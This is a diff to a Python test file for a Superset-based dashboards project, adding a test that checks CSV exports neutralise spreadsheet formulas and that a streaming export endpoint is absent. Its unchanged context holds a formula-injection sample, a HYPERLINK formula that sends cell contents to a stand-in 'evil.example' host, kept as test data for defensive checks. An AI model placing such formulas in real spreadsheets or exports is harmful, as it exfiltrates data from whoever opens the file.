@@ -20,10 +20,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from dashboards.publishing.client import Session
 from dashboards.serving.environment import ROOT, ensure_environment
 from dashboards.superset.pages.cells import SIGNED_NUMBER, harmless, harmless_sql
 from pipelines.products.exports.single import export_open_data
 from sources.home.home import Home
+from tests.dashboards.conftest import Server
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1;"ouvrir")',
@@ -133,3 +135,23 @@ def test_files_of_superset_hold_texts_and_numbers() -> None:
     with zipfile.ZipFile(io.BytesIO(base64.b64decode(written["xlsx"]))) as package:
         sheet = package.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet and "hyperlink" not in sheet and sheet.count("<v>-5.5</v>") == len(sent)
+
+
+@pytest.mark.superset
+@pytest.mark.parametrize("rows", [100_000, "100000", 10**12])
+def test_no_question_has_its_file_written_another_way(server: Server, rows: object) -> None:
+    """Superset writes long files while they are read, as received; how long is what the question says of itself."""
+    admin = Session(server.url, "admin", server.password("admin"))
+    [number] = [item["id"] for item in admin.every("dataset") if item["table_name"] == "mart_answer"]
+    formula = {"expressionType": "SQL", "sqlExpression": "'=1+1'", "label": "formule"}
+    body = {
+        "datasource": {"id": number, "type": "table"},
+        "form_data": {"row_limit": rows, "viz_type": "table"},
+        "queries": [{"columns": [formula], "metrics": [], "row_limit": 1}],
+        "result_format": "csv",
+        "result_type": "full",
+    }
+    answer = admin.session.post(f"{admin.base_url}/chart/data", json=body, timeout=60)
+    assert answer.content.decode("utf-8") == "\ufeffformule\n'=1+1\n"
+    streamed = admin.session.post(f"{admin.base_url}/sqllab/export_streaming/", data={"client_id": "x"}, timeout=60)
+    assert streamed.status_code == 404
